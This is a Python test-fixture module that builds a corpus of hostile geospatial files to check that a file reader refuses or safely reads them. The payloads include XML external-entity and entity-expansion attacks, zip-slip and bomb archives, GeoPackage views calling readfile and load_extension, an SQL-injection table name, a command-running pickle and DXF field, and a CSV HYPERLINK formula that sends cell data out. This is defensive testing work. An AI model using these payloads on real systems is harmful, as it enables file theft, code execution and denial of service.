"""The hostile files: each wants to read another file, reach a network, write outside, or use up the reader. Made by code, no two alike.

`CORPUS` maps a file's name to what makes its bytes of `Aim`: the file it is after, an address on loopback, and a folder that nothing may be written to.
"""

# ruff: noqa: E501  (the files are told in one line each)

from __future__ import annotations

import io
import json
import pickle
import random
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from tempfile import TemporaryDirectory

import shapely

CANARY = "canary-9c1e-resident"


@dataclass(frozen=True)
class Aim:
    """What the files are after: `secret` is a table of another office, `url` an address that counts its visitors."""

    secret: Path
    url: str


Make = Callable[[Aim], bytes]
CORPUS: dict[str, Make] = {}


def text(template: str, encoding: str = "utf-8") -> Make:
    """`{secret}` and `{url}` are put in; other braces stay as they are."""
    return lambda aim: template.replace("{secret}", str(aim.secret)).replace("{url}", aim.url).encode(encoding)


def plain(data: bytes) -> Make:
    return lambda aim: data


def random_bytes(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


# --- descriptions of data that is elsewhere (T3, T4)

VRT = '<OGRVRTDataSource><OGRVRTLayer name="residents"><SrcDataSource>CSV:{secret}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'
VRT_URL = '<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>/vsicurl/{url}/x.geojson</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'
GDALG = '{"type": "gdal_streamed_alg", "command_line": "gdal vector pipeline ! read {secret}"}'
GDALG_URL = '{"type": "gdal_streamed_alg", "command_line": "gdal vector pipeline ! read /vsicurl/{url}/g ! write --output-format=stream s"}'
POINT = '{"type": "Feature", "properties": {"a": 1}, "geometry": {"type": "Point", "coordinates": [25.1, 60.1]}}'
CORPUS |= {
    f"vrt{e}": text(VRT)
    for e in (".geojson", ".shp", ".kml", ".kmz", ".gpkg", ".csv", ".gpx", ".fgb", ".parquet", ".dxf", ".dbf", ".osm", ".xlsx", ".vrt")
}
CORPUS |= {
    "vrt_url.json": text(VRT_URL),
    "gdalg.geojson": text(GDALG),
    "gdalg.gdalg.json": text(GDALG_URL),
    "gdalg.fgb": text(GDALG),
    "crs_link.geojson": text('{"type": "FeatureCollection", "crs": {"type": "link", "properties": {"href": "{url}/crs", "type": "ogcwkt"}}, "features": [' + POINT + "]}"),
    "crs_url.geojson": text('{"type": "FeatureCollection", "crs": {"type": "url", "properties": {"url": "{url}/crs"}}, "features": [' + POINT + "]}"),
    "crs_name.geojson": text('{"type": "FeatureCollection", "crs": {"type": "name", "properties": {"name": "{url}/crs"}}, "features": [' + POINT + "]}"),
    "next.geojson": text('{"type": "FeatureCollection", "links": [{"rel": "next", "href": "{url}/next"}], "features": [' + POINT + "]}"),
    "oapif.json": text('{"links": [{"rel": "data", "href": "{url}/collections"}], "landingPage": "{url}"}'),
    "wfs.gml": text("<OGRWFSDataSource><URL>{url}/wfs?</URL></OGRWFSDataSource>"),
    "wfs.kml": text("<OGRWFSDataSource><URL>{url}/wfs?</URL></OGRWFSDataSource>"),
    "csw.geojson": text("<OGRCSWDataSource><URL>{url}/csw?</URL></OGRCSWDataSource>"),
    "schema.gml": text('<ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" xsi:schemaLocation="x {url}/s.xsd"/>'),
    "path.csv": text("WKT,a\n/vsicurl/{url}/x,1\n{secret},2\n"),
}  # fmt: skip

# --- XML (T12)

LAUGH = '<!DOCTYPE a [<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)) + "]>"
OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}"><!ENTITY % y SYSTEM "{url}/dtd">]>'
KML = '<?xml version="1.0" encoding="UTF-8"?>{head}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{body}<Placemark><name>{name}</name><Point><coordinates>25.1,60.1</coordinates></Point></Placemark></Document></kml>'
GPX = '<?xml version="1.0"?>{head}<gpx version="1.1" creator="x" xmlns="http://www.topografix.com/GPX/1/1"><wpt lat="60.1" lon="25.1"><name>{name}</name><link href="{url}/link"/></wpt></gpx>'
OSM = '<?xml version="1.0"?>{head}<osm version="0.6"><node id="1" lat="60.1" lon="25.1"><tag k="name" v="{name}"/></node></osm>'


def filled(template: str, head: str = "", name: str = "a", body: str = "") -> str:
    return template.replace("{head}", head).replace("{name}", name).replace("{body}", body)


for ending, shape in ((".kml", KML), (".gpx", GPX), (".osm", OSM)):
    CORPUS |= {
        f"laugh{ending}": text(filled(shape, LAUGH, "&l9;")),
        f"outside{ending}": text(filled(shape, OUTSIDE, "&x;")),
        f"outside16{ending}": text(filled(shape, OUTSIDE, "&x;").replace('encoding="UTF-8"', 'encoding="UTF-16"'), "utf-16"),
        f"late{ending}": text(filled(shape, "<!-- " + "x" * 70_000 + " -->" + OUTSIDE, "&x;")),
        f"deep{ending}": text(filled(shape, name="<a>" * 50_000 + "</a>" * 50_000)),
    }
CORPUS |= {
    "links.kml": text(filled(KML, body='<NetworkLink><Link><href>{url}/net.kml</href></Link></NetworkLink><Style><IconStyle><Icon><href>{url}/icon.png</href></Icon></IconStyle></Style><GroundOverlay><Icon><href>file://{secret}</href></Icon></GroundOverlay><Schema schemaUrl="{url}/s"/><Placemark><styleUrl>{url}/style.kml#s</styleUrl><description><![CDATA[<img src="{url}/i.png">]]></description><Point><coordinates>25.2,60.2</coordinates></Point></Placemark>')),
    "include.kml": text(filled(KML, body='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/>')),
    "numbers.kml": text(filled(KML).replace("25.1,60.1", "nan,inf,1e999")),
    "many.kml": text(filled(KML).replace("25.1,60.1", "25.1,60.1 " * 300_000).replace("Point>", "LineString>")),
}  # fmt: skip


# --- archives (T11)


def zipped(*members: tuple[str, Make | bytes], stored: bool = False) -> Make:
    def make(aim: Aim) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
            for name, content in members:
                archive.writestr(name, content if isinstance(content, bytes) else content(aim))
        return out.getvalue()

    return make


def symlink(aim: Aim) -> bytes:
    info = zipfile.ZipInfo("link.csv")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(info, str(aim.secret))
    return out.getvalue()


def lying_zip(aim: Aim) -> bytes:
    """A member larger than both its headers say."""
    data = bytearray(zipped(("a.csv", b"x" * 50_000))(aim))
    central = data.index(b"PK\x01\x02")
    data[22:26] = data[central + 24 : central + 28] = struct.pack("<I", 100)
    return bytes(data)


def overlapping(aim: Aim) -> bytes:
    """Fifty entries of the directory share one packed megabyte."""
    data = zipped(("a00.csv", b"a,b\n" + b" " * 5_000_000))(aim)
    start = data.index(b"PK\x01\x02")
    entry, end = data[start : data.rindex(b"PK\x05\x06")], data[data.rindex(b"PK\x05\x06") :]
    entries = b"".join(entry.replace(b"a00.csv", f"a{i:02d}.csv".encode()) for i in range(50))
    count = struct.pack("<HH", 50, 50)
    return data[:start] + entries + end[:8] + count + struct.pack("<II", len(entries), start) + end[20:]


CORPUS |= {
    "slip.zip": zipped(("../../slipped.csv", b"a,b\n1,2\n")),
    "slip.kmz": zipped(("../../../slipped.kml", text(filled(KML)))),
    "windows.zip": zipped(("..\\..\\slipped.csv", b"a,b\n1,2\n")),
    "absolute.zip": zipped(("/tmp/slipped.csv", b"a,b\n1,2\n")),
    "symlink.zip": symlink,
    "lying.zip": lying_zip,
    "overlap.zip": overlapping,
    "bomb.zip": zipped(("a.geojson", b'{"type":"FeatureCollection","features":[' + b" " * 60_000_000 + b"]}")),
    "bomb.kmz": zipped(("doc.kml", b"<kml>" + b" " * 60_000_000 + b"</kml>")),
    "many.zip": zipped(*((f"f{i:05d}.csv", b"") for i in range(5_000)), stored=True),
    "quine.zip": zipped(("inner.zip", zipped(("inner.zip", b"PK\x03\x04")))),
    "vrt.zip": zipped(("a.geojson", text(VRT)), ("b.csv", b"a,b\n1,2\n")),
    "vrt_kml.kmz": zipped(("doc.kml", text(VRT_URL))),
    "entities.kmz": zipped(("doc.kml", text(filled(KML, OUTSIDE, "&x;")))),
    "nul.zip": lambda aim: zipped(("a.csv_.exe", b"a,b\n1,2\n"))(aim).replace(b"a.csv_.exe", b"a.csv\0.exe"),
}

# --- workbooks

SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
_MAIN = "http://schemas.openxmlformats.org"
PARTS = {
    "[Content_Types].xml": f'<Types xmlns="{_MAIN}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    "_rels/.rels": f'<Relationships xmlns="{_MAIN}/package/2006/relationships"><Relationship Id="rId1" Type="{_MAIN}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{_MAIN}/spreadsheetml/2006/main" xmlns:r="{_MAIN}/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_MAIN}/package/2006/relationships"><Relationship Id="rId1" Type="{_MAIN}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}  # fmt: skip


def workbook(sheet: str, head: str = "", rels: str | None = None) -> Make:
    parts = {**PARTS, "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?>{head}{sheet}'}
    if rels:
        parts["xl/_rels/workbook.xml.rels"] = rels
    return zipped(*((name, text(body)) for name, body in parts.items()))


CELL = '<row r="1"><c r="A1" t="inlineStr"><is><t>{t}</t></is></c></row>'
CONTENT = '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:body><office:spreadsheet>&x;</office:spreadsheet></office:body></office:document-content>'
CORPUS |= {
    "laugh.xlsx": workbook(SHEET.replace("{rows}", CELL.replace("{t}", "&l9;")), LAUGH),
    "outside.xlsx": workbook(SHEET.replace("{rows}", CELL.replace("{t}", "&x;")), OUTSIDE),
    "target.xlsx": workbook(SHEET.replace("{rows}", CELL.replace("{t}", "a")), rels=PARTS["xl/_rels/workbook.xml.rels"].replace("worksheets/sheet1.xml", "file://{secret}")),
    "corners.xlsx": workbook(SHEET.replace("{rows}", '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
    "bomb.xlsx": workbook(SHEET.replace("{rows}", CELL.replace("{t}", "A" * 200) * 400_000)),
    "outside.ods": zipped(("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", text('<?xml version="1.0"?>' + OUTSIDE + CONTENT))),
    "repeated.ods": zipped(("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", text('<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="a"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>'))),
}  # fmt: skip


# --- GeoPackages (T13, T16)


def gpkg(*statements: str, unsafe: str = "") -> Make:
    """A GeoPackage of one point and what is done to it; `unsafe` is written into the schema as it is."""

    def make(aim: Aim) -> bytes:
        with TemporaryDirectory() as folder:
            path = Path(folder) / "a.gpkg"
            db = sqlite3.connect(path)
            db.executescript("""
                PRAGMA application_id = 1196444487;
                CREATE TABLE gpkg_spatial_ref_sys (srs_name TEXT, srs_id INTEGER PRIMARY KEY, organization TEXT,
                    organization_coordsys_id INTEGER, definition TEXT, description TEXT);
                INSERT INTO gpkg_spatial_ref_sys VALUES ('WGS 84', 4326, 'EPSG', 4326, '', '');
                CREATE TABLE gpkg_contents (table_name TEXT PRIMARY KEY, data_type TEXT, identifier TEXT, description TEXT, last_change TEXT,
                    min_x REAL, min_y REAL, max_x REAL, max_y REAL, srs_id INTEGER);
                CREATE TABLE gpkg_geometry_columns (table_name TEXT, column_name TEXT, geometry_type_name TEXT, srs_id INTEGER, z INTEGER, m INTEGER);
                CREATE TABLE a (fid INTEGER PRIMARY KEY, geom BLOB, name TEXT);
                INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) VALUES ('a', 'features', 'a', 4326);
                INSERT INTO gpkg_geometry_columns VALUES ('a', 'geom', 'POINT', 4326, 0, 0);
            """)
            db.execute("INSERT INTO a VALUES (1, ?, 'n')", (b"GP\x00\x01" + struct.pack("<iBIdd", 4326, 1, 1, 25.0, 60.0),))
            for statement in statements:
                db.execute(statement.replace("{secret}", str(aim.secret)).replace("{url}", aim.url))
            if unsafe:
                db.execute("PRAGMA writable_schema = 1")
                db.execute("INSERT INTO sqlite_master VALUES ('table', 'v', 'v', 0, ?)", (unsafe.replace("{secret}", str(aim.secret)),))
            db.commit()
            db.close()
            return path.read_bytes()

    return make


KNOWN = "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) VALUES ('v', 'attributes', 'v', 4326)"
CORPUS |= {
    "plain.gpkg": gpkg(),
    "recursive.gpkg": gpkg("CREATE VIEW v AS WITH RECURSIVE r(fid) AS (SELECT 1 UNION ALL SELECT fid + 1 FROM r) SELECT fid FROM r", KNOWN),
    "readfile.gpkg": gpkg("CREATE VIEW v AS SELECT readfile('{secret}') AS z", KNOWN),
    "extension.gpkg": gpkg("CREATE VIEW v AS SELECT load_extension('{secret}') AS z", KNOWN),
    "blob.gpkg": gpkg("CREATE VIEW v AS SELECT zeroblob(900000000) AS z", KNOWN),
    "trigger.gpkg": gpkg("CREATE TRIGGER t AFTER INSERT ON a BEGIN DELETE FROM a; END"),
    "virtual.gpkg": gpkg(KNOWN, unsafe="CREATE VIRTUAL TABLE v USING VirtualOGR('{secret}')"),
    "srs.gpkg": gpkg("UPDATE gpkg_spatial_ref_sys SET definition = '{url}/crs.wkt', srs_name = '/vsicurl/{url}/x'"),
    "name.gpkg": gpkg('CREATE TABLE "v"";DROP TABLE a;--" (fid INTEGER PRIMARY KEY, t TEXT)', KNOWN.replace("'v'", "'v\";DROP TABLE a;--'", 1)),
    "cut.gpkg": lambda aim: gpkg()(aim)[:6000],
}  # fmt: skip

# --- drawings (bombs, references to other files)


def dxf(blocks: str, entities: str, header: str = "") -> Make:
    return text(
        f"  0\nSECTION\n  2\nHEADER\n  9\n$ACADVER\n  1\nAC1015\n{header}  0\nENDSEC\n  0\nSECTION\n  2\nBLOCKS\n{blocks}  0\nENDSEC\n"
        f"  0\nSECTION\n  2\nENTITIES\n{entities}  0\nENDSEC\n  0\nEOF\n"
    )


def insert(block: str, more: str = "") -> str:
    return f"  0\nINSERT\n  8\n0\n  2\n{block}\n 10\n0.0\n 20\n0.0\n 30\n0.0\n{more}"


def block(name: str, content: str, path: str = "") -> str:
    outside = f" 70\n4\n  1\n{path}\n" if path else ""
    return f"  0\nBLOCK\n  8\n0\n  2\n{name}\n{outside} 10\n0\n 20\n0\n 30\n0\n{content}  0\nENDBLK\n  8\n0\n"


LINE = "  0\nLINE\n  8\n0\n 10\n0\n 20\n0\n 11\n1\n 21\n1\n"
BOMB = block("B0", LINE * 10) + "".join(block(f"B{i}", insert(f"B{i - 1}") * 10) for i in range(1, 9))
CORPUS |= {
    "blocks.dxf": dxf(BOMB, insert("B8")),
    "self.dxf": dxf(block("S", insert("S") * 2), insert("S")),
    "grid.dxf": dxf(block("M", LINE), insert("M", " 70\n32767\n 71\n32767\n 44\n1\n 45\n1\n")),
    "spline.dxf": dxf(
        "", "  0\nSPLINE\n  8\n0\n 70\n8\n 71\n25\n 72\n2000000\n 73\n1900000\n 40\n0\n 40\n1\n 10\n0\n 20\n0\n 10\n1\n 20\n1\n"
    ),
    "ellipse.dxf": dxf("", "  0\nELLIPSE\n  8\n0\n 10\n0\n 20\n0\n 11\n1e300\n 21\n0\n 40\n1e-300\n 41\n0\n 42\n1e18\n" * 3),
    "hatch.dxf": dxf("", "  0\nHATCH\n  8\n0\n 91\n2000000000\n 92\n2\n 93\n2000000000\n" + LINE),
    "xref.dxf": dxf(block("X", "", "{secret}"), insert("X") + LINE),
    "image.dxf": dxf("", LINE + "  0\nIMAGE\n  8\n0\n 10\n0\n 20\n0\n340\nFF\n  0\nPDFUNDERLAY\n  8\n0\n340\nFE\n  1\n{url}/a.pdf\n"),
    "python.dxf": dxf("", "  0\nTEXT\n  8\n0\n 10\n0\n 20\n0\n 40\n1\n  1\n%<\\AcVar __import__('os').system('touch {secret}.hit')>%\n"),
    "binary.dxf": plain(b"AutoCAD Binary DXF\r\n\x1a\x00" + b"\x00\x00SECTION\x00" + random_bytes(7, 3000)),
    "endless.dxf": plain(b"  0\nSECTION\n  2\nENTITIES\n" + b"  0\n" * 400_000),
}

# --- column files, indexes that lie, pickles (T15, T23)


def parquet(metadata: dict[str, str]) -> Make:
    def make(aim: Aim) -> bytes:
        import pyarrow
        from pyarrow import parquet as file

        said = {k: v.replace("{secret}", str(aim.secret)).replace("{url}", aim.url) for k, v in metadata.items()}
        table = pyarrow.table({"a": [1], "geometry": [shapely.to_wkb(shapely.Point(25.1, 60.1))]}).replace_schema_metadata(said)
        out = io.BytesIO()
        file.write_table(table, out)
        return out.getvalue()

    return make


def geo(crs: object, **more: object) -> dict[str, str]:
    column = {"encoding": "WKB", "geometry_types": [], "crs": crs, **more}
    return {"geo": json.dumps({"version": "1.1.0", "primary_column": "geometry", "columns": {"geometry": column}})}


class _Loaded:
    """Becomes a command when unpickled; nobody must."""

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, ...]]:
        import os

        return (os.system, ("touch /tmp/yuantu-unpickled",))


PICKLE = pickle.dumps(_Loaded())
CORPUS |= {f"pickle{e}": plain(PICKLE) for e in (".parquet", ".geojson", ".csv", ".dbf", ".fgb", ".dxf", ".xlsx", ".gpkg", ".kml", ".pkl")}
CORPUS |= {
    "pandas.parquet": parquet({"pandas": json.dumps({"columns": [{"pandas_type": "object", "metadata": {"pickle": PICKLE.hex()}}]}), **geo(None)}),
    "crs.parquet": parquet(geo("{url}/crs.json")),
    "crs_base.parquet": parquet(geo({"type": "GeographicCRS", "$schema": "{url}/schema.json", "name": "{secret}"})),
    "extension.parquet": parquet({"ARROW:schema": "AAAA", **geo(None, encoding="arrow.py_extension_type")}),
    "footer.parquet": plain(b"PAR1" + random_bytes(3, 200) + struct.pack("<I", 0x7FFFFFFF) + b"PAR1"),
    "random.parquet": plain(b"PAR1" + random_bytes(4, 5000) + b"PAR1"),
    "random.fgb": plain(b"fgb\x03fgb\x00" + random_bytes(5, 5000)),
    "header.fgb": plain(b"fgb\x03fgb\x00" + struct.pack("<I", 0x7FFFFFFF) + b"\x00" * 64),
    "index.fgb": plain(b"fgb\x03fgb\x00" + struct.pack("<I", 24) + b"\x10\x00\x00\x00" + b"\xff" * 200),
    "gdb.zip": zipped(("x.gdb/a00000001.gdbtable", struct.pack("<IIII", 3, 0x7FFFFFFF, 0, 0x7FFFFFFF) + random_bytes(6, 500)), ("x.gdb/a00000001.gdbtablx", random_bytes(8, 300)), ("x.gdb/gdb", b"\x05\0\0\0")),
    "lying.dbf": plain(b"\x03\x7c\x01\x01" + struct.pack("<IHH", 0x7FFFFFFF, 65, 11) + b"\0" * 20 + b"NAME".ljust(11, b"\0") + b"C" + b"\0" * 4 + b"\x0a\0" + b"\0" * 14 + b"\x0d" + b" abcdefghij"),
    "lying.shp": plain(struct.pack(">7i", 9994, 0, 0, 0, 0, 0, 0x7FFFFFFF) + struct.pack("<2i8d", 1000, 5, *[0.0] * 8) + struct.pack(">2i", 1, 0x7FFFFFF0) + struct.pack("<i4d2i", 5, 0, 0, 1, 1, 0x7FFFFFFF, 0x7FFFFFFF)),
    "lie.osm.pbf": plain(b"\x7f\xff\xff\xff" + b"A" * 100),
    "random.osm.pbf": plain(b"\x00\x00\x00\x0d\n\tOSMHeader\x18\x7c" + random_bytes(9, 2000)),
    "bomb.osm.gz": lambda aim: zlib.compress(b"<osm>" + b" " * 80_000_000, 9, 31),
}  # fmt: skip

# --- JSON and numbers (T8, T9, T10)


def feature(geometry: str, properties: str = "{}") -> Make:
    return text('{"type":"FeatureCollection","features":[{"type":"Feature","properties":' + properties + ',"geometry":' + geometry + "}]}")


def star(points: int) -> str:
    step = points // 2 - 1 if points % 2 else points // 2 + 1
    import math

    at = [(25 + math.cos(2 * math.pi * i * step / points) / 50, 60 + math.sin(2 * math.pi * i * step / points) / 50) for i in range(points)]
    return json.dumps({"type": "Polygon", "coordinates": [[*at, at[0]]]})


CORPUS |= {
    "deep.geojson": feature("[" * 200_000 + "]" * 200_000),
    "deep_objects.geojson": feature("null", '{"a":' * 100_000 + "1" + "}" * 100_000),
    "deep_collections.geojson": feature('{"type":"GeometryCollection","geometries":[' * 5000 + "]}" * 5000),
    "nan.geojson": feature('{"type":"Point","coordinates":[NaN,60]}'),
    "infinity.geojson": feature('{"type":"Point","coordinates":[Infinity,-Infinity]}'),
    "overflow.geojson": feature('{"type":"Point","coordinates":[1e999,60]}'),
    "keys.geojson": text('{"type":"FeatureCollection","features":[' + ",".join(f'{{"type":"Feature","properties":{{"k{i}":1}},"geometry":null}}' for i in range(5000)) + "]}"),
    "long_key.geojson": feature("null", '{"' + "k" * 100_000 + '": 1}'),
    "star.geojson": feature(star(1501)),
    "vertices.geojson": feature('{"type":"LineString","coordinates":[' + ",".join("[25,60]" for _ in range(150_000)) + "]}"),
    "wkt.csv": text('id,wkt\n1,"' + "GEOMETRYCOLLECTION(" * 3000 + "POINT(1 2)" + ")" * 3000 + '"\n'),
    "formula.csv": text('name,lon,lat\n"=HYPERLINK(""{url}/?""&A1)",25.1,60.1\n@SUM(1),25.2,60.2\n'),
    "wide.csv": text(",".join(f"c{i}" for i in range(20_000)) + "\n" + "1," * 19_999 + "1\n"),
}  # fmt: skip

QUICK = (
    "vrt.geojson", "vrt.kml", "gdalg.geojson", "crs_link.geojson", "outside.kml", "outside16.gpx", "links.kml", "entities.kmz", "slip.zip",
    "symlink.zip", "overlap.zip", "readfile.gpkg", "blocks.dxf", "pickle.parquet", "index.fgb", "gdb.zip",
)  # fmt: skip
"""One of each kind, for `make test`; all of them in `make soak`."""

HARMLESS = frozenset((
    "crs_name.geojson", "next.geojson", "path.csv", "links.kml", "include.kml", "numbers.kml", "many.kml", "plain.gpkg", "srs.gpkg", "name.gpkg",
    "ellipse.dxf", "xref.dxf", "python.dxf", "pandas.parquet", "crs.parquet", "crs_base.parquet", "lying.dbf", "lying.shp", "vertices.geojson",
    "wkt.csv", "formula.csv",
))  # fmt: skip
"""Read without doing what they ask; all others are refused. What they name stays text."""

COSTLY = frozenset(("star.geojson",))
"""Refused, or read where the machine is fast."""
